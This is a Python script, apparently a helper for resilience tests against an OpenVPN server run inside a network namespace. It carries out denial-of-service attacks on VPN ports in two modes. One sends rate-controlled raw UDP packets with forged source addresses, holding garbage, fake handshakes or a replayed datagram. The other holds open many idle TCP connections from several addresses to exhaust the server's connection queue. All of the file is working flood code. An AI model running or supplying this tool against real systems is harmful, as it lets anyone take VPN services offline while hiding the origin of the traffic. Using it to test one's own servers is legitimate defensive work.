#!/usr/bin/python3
"""Strangers at the VPN ports, from one program; runs in the namespace of the Internet as root.

    flood.py datagrams TARGET PORT RATE SOURCES [FILE]   datagrams a second from so many invented sources:
                                 garbage, or copies of the datagram in FILE
    flood.py idle TARGET PORT COUNT SOURCE...   so many TCP connections that send nothing, in equal parts from
                                 these addresses; a connection that is closed is opened again

Prints "begun" when the attack is at its full strength, and ends with its standard input; then it prints what
it has done as one line of JSON.
"""

import errno
import json
import os
import random
import select
import socket
import struct
import sys
import time

# Datagrams that are sent together; the pauses between them keep the rate.
TOGETHER = 50
# Connections that are tried together, and the pause after them. With more at a time most are lost in the
# queue of connections that wait for OpenVPN, and only their own side sees them as open.
ATTEMPTS, PAUSE = 10, 0.02
FIRST_SOURCE = 172 << 24 | 20 << 16


def address(number):
    return socket.inet_ntoa(struct.pack("!I", number))


def garbage(number):
    """What strangers send: first packets of an unprotected client, first packets with a false key, noise."""
    if number % 3 == 0:
        return b"\x38" + os.urandom(8) + b"\0\0\0\0\0"
    if number % 3 == 1:
        return b"\x50" + os.urandom(600)
    return os.urandom(random.randrange(1, 200))


def packet(source, target, port, content):
    """An IPv4 packet with a UDP datagram; without a checksum of UDP, as the standard allows."""
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(content), 0) + content
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(source), target
    )
    return header + udp


def ended():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def datagrams(target, port, rate, sources, file=None):
    """Sends until the end of standard input."""
    copied = None
    if file:
        with open(file, "rb") as recorded:
            copied = recorded.read()
    packets = [
        packet(
            address(FIRST_SOURCE + number % sources),
            socket.inet_aton(target),
            port,
            copied or garbage(number),
        )
        for number in range(max(2 * sources, 3000))
    ]
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, begun = 0, time.monotonic()
    print("begun", flush=True)
    while not ended():
        for _ in range(TOGETHER):
            try:
                sender.sendto(packets[sent % len(packets)], (target, 0))
            except OSError as error:
                if error.errno != errno.ENOBUFS:
                    raise
            sent += 1
        time.sleep(max(0.0, begun + sent / rate - time.monotonic()))
    seconds = time.monotonic() - begun
    return {"sent": sent, "a second": round(sent / seconds)}


class Idle:
    """Connections that are opened, held and opened again."""

    def __init__(self, target, port, count, sources):
        self.target, self.sources = (target, port), sources
        self.poll = select.epoll()
        self.count, self.waiting = count, list(range(count))
        self.open, self.pending = {}, {}
        self.tried = self.connected = self.most = 0

    def attempt(self):
        number = self.waiting.pop()
        connection = socket.socket()
        connection.setblocking(False)
        connection.bind((self.sources[number % len(self.sources)], 0))
        connection.connect_ex(self.target)
        self.pending[connection.fileno()] = (connection, number)
        self.poll.register(connection, select.EPOLLOUT)
        self.tried += 1

    def handle(self, descriptor, event):
        if descriptor in self.pending:
            connection, number = self.pending.pop(descriptor)
            if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                self.connected += 1
                self.open[descriptor] = (connection, number)
                self.most = max(self.most, len(self.open))
                self.poll.modify(connection, select.EPOLLRDHUP)
                return
        elif event & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
            connection, number = self.open.pop(descriptor)
        else:
            return
        self.poll.unregister(connection)
        connection.close()
        self.waiting.append(number)

    def run(self):
        announced, due = False, 0.0
        while not ended():
            if time.monotonic() >= due:
                due = time.monotonic() + PAUSE
                for _ in range(min(ATTEMPTS, len(self.waiting))):
                    self.attempt()
            if self.tried >= self.count and not announced:
                announced = True
                print("begun", flush=True)
            for descriptor, event in self.poll.poll(PAUSE):
                self.handle(descriptor, event)
        return {"tried": self.tried, "connected": self.connected, "most at once": self.most}


def main():
    kind, target, port, *rest = sys.argv[1:]
    if kind == "datagrams":
        result = datagrams(target, int(port), int(rest[0]), int(rest[1]), rest[2] if rest[2:] else None)
    else:
        result = Idle(target, int(port), int(rest[0]), rest[1:]).run()
    print(json.dumps(result))


if __name__ == "__main__":
    main()
